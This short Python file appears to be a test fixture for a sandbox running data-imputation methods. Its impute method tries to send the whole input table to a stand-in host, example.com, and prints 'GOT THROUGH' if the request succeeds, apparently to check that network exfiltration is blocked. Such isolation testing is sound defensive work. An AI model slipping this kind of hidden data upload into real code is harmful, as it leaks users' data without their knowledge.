"""Sends the table to a server by name.

Expected: harmless.
"""

import urllib.request
import numpy as np


class Method:
    def __init__(self, seed, device):
        pass

    def impute(self, x, categorical):
        try:
            urllib.request.urlopen("http://example.com/", data=x.tobytes(), timeout=1)
            print("GOT THROUGH")
        except OSError as error:
            print(error)
        return np.nan_to_num(x)
